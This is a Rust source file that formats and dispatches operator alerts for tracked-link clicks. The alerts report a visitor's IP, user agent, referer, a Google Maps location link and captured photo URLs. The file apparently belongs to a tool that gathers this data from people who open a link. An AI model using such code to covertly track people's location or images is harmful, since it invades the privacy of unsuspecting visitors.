use chrono::{DateTime, Utc};
use common::domain::{Location, Notifier};
use std::sync::Arc;
use tokio::task::JoinHandle;
use tracing::{debug, warn};

const TIME_FORMAT: &str = "%Y-%m-%d %H:%M:%S";

/// Request metadata describing who triggered an event
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct VisitorContext {
    pub ip: String,
    pub user_agent: String,
    pub referer: String,
}

/// Fire-and-forget delivery of operator notifications
///
/// Each message is sent on its own task. Failures are logged and dropped;
/// nothing is retried.
#[derive(Clone)]
pub struct NotificationDispatcher {
    notifier: Arc<dyn Notifier>,
}

impl NotificationDispatcher {
    pub fn new(notifier: Arc<dyn Notifier>) -> Self {
        Self { notifier }
    }

    /// Spawns delivery and returns at once; the handle may be dropped
    pub fn dispatch(&self, text: String) -> JoinHandle<()> {
        let notifier = self.notifier.clone();
        tokio::spawn(async move {
            match notifier.send(text).await {
                Ok(()) => debug!("notification delivered"),
                Err(e) => warn!(error = %e, "notification dropped"),
            }
        })
    }
}

fn visitor_header(ctx: &VisitorContext, at: DateTime<Utc>) -> String {
    format!(
        "🔗 Link Click Detected!\n\nTime: {}\nIP: {}\nUser Agent: {}\nReferer: {}\n",
        at.format(TIME_FORMAT),
        ctx.ip,
        ctx.user_agent,
        ctx.referer
    )
}

/// Google Maps link centred on a location
pub fn maps_link(location: &Location) -> String {
    format!(
        "https://www.google.com/maps/@{:.6},{:.6},15z",
        location.latitude, location.longitude
    )
}

/// Message sent when a visitor submits a location
pub fn location_message(ctx: &VisitorContext, at: DateTime<Utc>, location: &Location) -> String {
    format!("{}location: {}", visitor_header(ctx, at), maps_link(location))
}

/// Message sent when a visitor follows a tracked link
pub fn click_message(ctx: &VisitorContext, at: DateTime<Utc>, target_url: &str) -> String {
    format!("{}Target URL: {}", visitor_header(ctx, at), target_url)
}

/// Message sent once a photo has been attached to an event
pub fn photo_message(record_id: &str, photo_url: &str, at: DateTime<Utc>) -> String {
    format!(
        "📸 Photo Captured!\n\nTime: {}\nRecord: {}\nPhoto: {}",
        at.format(TIME_FORMAT),
        record_id,
        photo_url
    )
}
